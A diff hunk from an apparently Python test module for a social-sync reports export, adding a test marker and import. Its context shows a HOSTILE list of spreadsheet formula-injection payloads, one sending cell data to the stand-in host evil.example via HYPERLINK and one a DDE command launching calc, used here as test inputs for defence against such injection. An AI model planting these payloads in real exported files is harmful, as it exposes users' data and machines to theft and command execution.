@@ -22,9 +22,11 @@ from social_sync import reports as social_reports
 from social_sync.models import SocialAccount
 from tests.factories import EventPageFactory, NewsPageFactory, UserFactory
 from tests.newsroom.reports.month import MSK, NOW, build_month
+from tests.once import once
 from tests.social_sync.factories import SocialAccountFactory
 
 ROOT = Path(__file__).resolve().parents[2]
+pytestmark = once  # what is written does not depend on the database
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
     "=cmd|' /C calc'!A0",
